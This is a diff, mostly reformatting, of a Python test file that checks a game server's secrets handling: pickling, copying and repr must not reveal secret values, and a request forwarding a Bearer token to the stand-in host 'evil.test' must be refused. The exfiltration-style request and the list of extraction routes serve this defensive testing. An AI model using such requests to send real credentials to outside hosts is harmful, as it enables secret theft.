@@ -22,22 +22,32 @@ SECRET_URL = "https://hooks-s3cret-7f2a.example.com/api/x"
 
 
 def server() -> GameServer:
-    return GameServer(server_id="job-1", place_id=1, place_version=1, clock=lambda: 0.0,
-                      secrets={"TOKEN": (VALUE, "*.example.com"),
-                               "HOOK": (SECRET_URL, "*.example.com"),
-                               "PRIVATE": (VALUE, None)})
+    return GameServer(
+        server_id="job-1",
+        place_id=1,
+        place_version=1,
+        clock=lambda: 0.0,
+        secrets={
+            "TOKEN": (VALUE, "*.example.com"),
+            "HOOK": (SECRET_URL, "*.example.com"),
+            "PRIVATE": (VALUE, None),
+        },
+    )
 
 
-@pytest.mark.parametrize("attempt", [
-    lambda s: s.__getstate__(),
-    lambda s: object.__reduce_ex__(s, 2),
-    lambda s: object.__reduce_ex__(s, 4),
-    lambda s: s.__reduce__(),
-    lambda s: copy.copy(s),
-    lambda s: copy.deepcopy(s),
-    lambda s: pickle.dumps(s),
-    lambda s: vars(s),
-])
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        lambda s: s.__getstate__(),
+        lambda s: object.__reduce_ex__(s, 2),
+        lambda s: object.__reduce_ex__(s, 4),
+        lambda s: s.__reduce__(),
+        lambda s: copy.copy(s),
+        lambda s: copy.deepcopy(s),
+        lambda s: pickle.dumps(s),
+        lambda s: vars(s),
+    ],
+)
 def test_no_protocol_hands_out_a_secrets_value(attempt: Callable[[Secret], Any]) -> None:
     secret = server().get_secret("TOKEN").add_suffix("-x")
     try:
@@ -49,8 +59,14 @@ def test_no_protocol_hands_out_a_secrets_value(attempt: Callable[[Secret], Any])
 
 def test_str_repr_format_and_dir_show_the_name_only() -> None:
     secret = server().get_secret("TOKEN")
-    shown = [str(secret), repr(secret), format(secret), f"{secret!r}", "%s" % secret,  # noqa: UP031  the old spelling too
-             repr(dir(secret))]
+    shown = [
+        str(secret),
+        repr(secret),
+        format(secret),
+        f"{secret!r}",
+        "%s" % secret,  # noqa: UP031  the old spelling too
+        repr(dir(secret)),
+    ]
     assert all("S3CRET" not in text for text in shown)
     assert str(secret) == "Secret(TOKEN)"
 
@@ -87,16 +103,20 @@ def test_the_fakes_oracle_route_refusal_never_quotes_a_value(fake_open_cloud: An
 
     handle = fake_open_cloud
     uid = handle.universe_id
-    with SecretsClient(uid, api_key=handle.api_key, base_url=handle.url,
-                       rate_limit=None) as client:
+    with SecretsClient(uid, api_key=handle.api_key, base_url=handle.url, rate_limit=None) as client:
         client.set("TOKEN", VALUE, domain="api.example.com")
     headers = {"x-api-key": handle.api_key}
     base = f"{handle.url}/_fake/universes/{uid}"
     made = requests.post(f"{base}/servers", json={}, headers=headers, timeout=5).json()
-    answer = requests.post(f"{base}/servers/{made['id']}/http-request", headers=headers,
-                           json={"url": "https://evil.test/", "headers": {
-                               "Authorization": {"secret": "TOKEN", "prefix": "Bearer "}}},
-                           timeout=5)
+    answer = requests.post(
+        f"{base}/servers/{made['id']}/http-request",
+        headers=headers,
+        json={
+            "url": "https://evil.test/",
+            "headers": {"Authorization": {"secret": "TOKEN", "prefix": "Bearer "}},
+        },
+        timeout=5,
+    )
     assert answer.status_code == 400
     assert "TOKEN" in answer.text and "S3CRET" not in answer.text
     entries = [repr(e) for e in handle.fake.journal]
